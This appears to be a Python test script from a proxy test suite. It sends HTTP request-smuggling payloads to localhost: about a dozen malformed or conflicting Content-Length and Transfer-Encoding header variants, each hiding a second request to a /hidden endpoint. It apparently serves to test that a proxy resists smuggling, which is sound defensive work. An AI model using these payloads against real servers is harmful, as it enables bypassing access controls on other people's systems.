"""Hide a second request behind two lengths that servers choose differently between."""

# aims: outside
# control: none (there is no proxy outside of a session)
# seconds: 30
from attack import tried
from proxied import SITE, TCP, say, through

good = f"127.0.0.1:{SITE}"
hidden = f"GET /hidden HTTP/1.1\r\nHost: 127.0.0.1:{TCP}\r\n\r\n"
tried()
for fields in (
    "Content-Length: 0\r\nContent-Length: {n}", "Content-Length: {n}\r\nContent-Length: 0", "Content-Length: 0, {n}",
    "Content-Length: +0", "Content-Length: -1", "Content-Length: 0x0", "Content-Length: 00", "Content-Length: 0 {n}",
    "Content-Length: ", "Content-Length : 0", "Content_Length: {n}", "Content-Length: {n}\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nContent-Length: {n}", "Content-Length: 9999999999999999999999",
):  # fmt: skip
    head = fields.format(n=len(hidden))
    say(f"POST http://{good}/ HTTP/1.1\r\nHost: {good}\r\n{head}\r\n\r\n{hidden}".encode())
    through(good, f"POST / HTTP/1.1\r\nHost: {good}\r\n{head}\r\n\r\n{hidden}".encode())
